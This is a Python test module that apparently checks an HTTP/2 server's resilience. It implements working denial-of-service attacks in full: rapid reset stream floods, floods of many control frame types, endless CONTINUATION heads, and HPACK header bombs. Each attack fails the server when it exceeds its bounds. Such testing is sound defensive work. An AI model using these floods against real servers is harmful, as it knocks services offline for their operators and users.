"""Attacks by HTTP/2: requests that are given up, floods of frames, and heads.

Each attack returns one line on its outcome, or raises `Wrong` where its own bound is broken. `measuring.py` holds all of
them to the bounds of memory, CPU afterwards, the log, and the other client.
"""

import dataclasses
import time

from verdicts import SMALL
from wire import *  # noqa: F403
from wire import Connection, Wrong, window

SOON = 10  # seconds for an attack that must be ended
FLOOD = 3  # seconds that one flood lasts at most

ATTACKS = []


@dataclasses.dataclass
class Attack:
    name: str
    run: object
    memory: float  # MiB that the peak may lie above the memory before


def attack(name, memory=24):
    def register(run):
        ATTACKS.append(Attack(name, run, memory))
        return run

    return register


def ending(connection):
    if connection.goaway:
        return f"GOAWAY {code_name(connection.goaway[1])}"
    return "closed" if connection.closed else "open"


def tell(sent, unit, endings):
    """`40000 streams; 3 connections: 2 GOAWAY ENHANCE_YOUR_CALM, 1 open`"""
    counted = {each: endings.count(each) for each in dict.fromkeys(endings)}
    ends = ", ".join(f"{number} {each}" for each, number in counted.items())
    return f"{sent} {unit}; {len(endings)} connection{'s' if len(endings) > 1 else ''}: {ends}"


def flood(server, blob, unit, size, begin=b"", read=True, connections=200, seconds=FLOOD, total=None):
    """Sends these bytes again and again on connection after connection, until `total` units of `size` bytes have been
    accepted, or the time is over."""
    total = total or len(blob) // size
    deadline, sent, endings = time.monotonic() + seconds, 0, []
    while sent < total and len(endings) < connections and (left := deadline - time.monotonic()) > 0:
        options = {} if read else {"buffer": 4096}
        try:
            connection = Connection(server.tls_port, **options).open()
        except (Wrong, OSError):
            endings.append("refused")
            continue
        with connection:
            connection.pump(begin)
            whole = len(blob) - len(blob) % size
            sent += connection.flood(memoryview(blob)[:min(whole, (total - sent) * size)], left, read) // size
            if read:
                connection.pump(until=lambda: connection.closed, seconds=0.3)
            endings.append(ending(connection))
    return tell(sent, unit, endings)


def pairs(number, make):
    """The bytes for this many streams, all of one length: `make(stream)` has a four-byte number of the stream."""
    return b"".join(make(stream) for stream in range(1, 2 * number, 2))


def short(server):
    """A header block of few bytes, once its fields are in the table."""
    first = headers(1, indexed(2) + indexed(7) + literal(4, server.prefix + SMALL, 0x40) + literal(1, NAME, 0x40))
    return first, indexed(2) + indexed(7) + indexed(63) + indexed(62)


# Requests that are given up.


@attack("rapid reset: 100,000 streams")
def _(server):
    first, again = short(server)
    blob = b"".join(headers(stream, again) + reset(stream) for stream in range(3, 200_003, 2))
    return flood(server, blob, "streams", len(headers(1, again) + reset(1)), begin=first, seconds=10, total=100_000)


@attack("rapid reset, each of another object")
def _(server):
    def pair(stream):
        return request(stream, f"{server.prefix}none-{stream:06}.png") + reset(stream)

    if server.store:
        server.store.take()
    said = flood(server, pairs(20_000, pair), "streams", len(pair(1)), seconds=6)
    if not server.store:
        return said
    asked = len(server.store.take())
    if asked > 4000:
        raise Wrong(f"{asked} requests reached the store: {said}")
    return f"{said}; {asked} requests at the store"


@attack("resets that the server is made to send: WINDOW_UPDATE of 0")
def _(server):
    first, again = short(server)
    blob = b"".join(headers(stream, again) + window(stream, 0) for stream in range(3, 40_003, 2))
    return flood(server, blob, "streams", len(headers(1, again) + window(1, 0)), begin=first)


@attack("requests that are malformed")
def _(server):
    bad = block(fields("/", ("Upper", "x")))
    return flood(server, pairs(20_000, lambda stream: headers(stream, bad)), "streams", len(headers(1, bad)))


@attack("HEADERS without a field")
def _(server):
    return flood(server, pairs(50_000, lambda stream: headers(stream, b"")), "streams", 9)


# Frames that cost the client nothing.

for name, one, number in [
    ("PING", ping(), 300_000),
    ("SETTINGS", settings((HEADER_TABLE_SIZE, 100)) + settings((HEADER_TABLE_SIZE, 4096)), 100_000),
    ("empty SETTINGS", settings(), 300_000),
    ("WINDOW_UPDATE", window(0, 1), 300_000),
    ("frames of an unknown kind", frame(0x42, 0, 0, b""), 300_000),
    ("GOAWAY", goaway(), 100_000),
]:
    def flooded(server, name=name, one=one, number=number):
        return flood(server, one * number, "frames", len(one))

    attack(name)(flooded)


@attack("PRIORITY of idle streams")
def _(server):
    return flood(server, pairs(300_000, lambda stream: priority(stream)), "frames", 14)


@attack("PRIORITY_UPDATE of idle streams")
def _(server):
    def one(stream):
        return frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + b"u=0, i")

    return flood(server, pairs(200_000, one), "frames", len(one(1)))


@attack("RST_STREAM of streams that have ended")
def _(server):
    first, _ = short(server)
    return flood(server, reset(1) * 300_000, "frames", 13, begin=first)


@attack("empty DATA")
def _(server):
    begin = request(1, server.prefix + SMALL, end=False, method="POST")
    return flood(server, data(1) * 300_000, "frames", 9, begin=begin)


@attack("PING, and no answer is read")
def _(server):
    return flood(server, ping() * 300_000, "frames", 17, read=False, connections=3)


@attack("SETTINGS, and no answer is read")
def _(server):
    return flood(server, settings() * 500_000, "frames", 9, read=False, connections=3)


# Heads.


def endless_head(server, piece, number, unit):
    begin = headers(1, block(fields(server.prefix + SMALL)), flags=0)
    connection = Connection(server.tls_port).open()
    with connection:
        connection.pump(begin)
        sent = connection.flood(continuation(1, piece, end=False) * number, SOON)
        connection.pump(until=lambda: connection.closed, seconds=SOON)
        if not connection.closed:
            raise Wrong(f"a head of {sent} bytes and no end is not refused: {connection}")
        return tell(sent // (9 + len(piece)), unit, [ending(connection)])


@attack("CONTINUATION without end: empty")
def _(server):
    return endless_head(server, b"", 1_000_000, "frames")


@attack("CONTINUATION without end: one field each")
def _(server):
    return endless_head(server, literal("x-test", "a" * 50), 100_000, "frames")


@attack("CONTINUATION without end: 16 KiB each")
def _(server):
    return endless_head(server, literal("x-test", "a" * 16000), 3000, "frames")


def bomb(server, name, value, references, connections=4, streams=60):
    """One field in the table, and many references to it in each head."""
    endings, answers = [], []
    for _ in range(connections):
        connection = Connection(server.tls_port).open()
        with connection:
            first = block(fields(server.prefix + "never-bomb.png"))
            connection.pump(headers(1, first + literal(name, value, 0x40)))
            again = headers(3, first + indexed(62) * references)
            sent = b"".join(again[:5] + stream.to_bytes(4, "big") + again[9:] for stream in range(3, 3 + 2 * streams, 2))
            last = 1 + 2 * streams
            connection.pump(sent, lambda: connection.ended(last) or connection.closed, SOON)
            connection.settle()
            endings.append(ending(connection))
            answers += [answer.status for stream, answer in connection.answers.items() if stream > 1]
            if any(status < 400 for status in answers):
                raise Wrong(f"a bomb is answered {set(answers)}")
    statuses = ", ".join(f"{answers.count(status)} answers {status}" for status in sorted(set(answers))) or "no answers"
    return f"{tell(connections * streams, f'heads of {references * len(value) // 2**20} MiB', endings)}; {statuses}"


@attack("header bomb: a field of 4 KiB, 15,000 times in a head")
def _(server):
    return bomb(server, "x-bomb", "a" * 4000, 15_000)


@attack("header bomb: a Cookie of 4 KiB, 15,000 times in a head")
def _(server):
    return bomb(server, "cookie", "a" * 4000, 15_000)


@attack("header bomb: 15,000 fields of one byte in a head")
def _(server):
    return bomb(server, "x", "", 15_000)
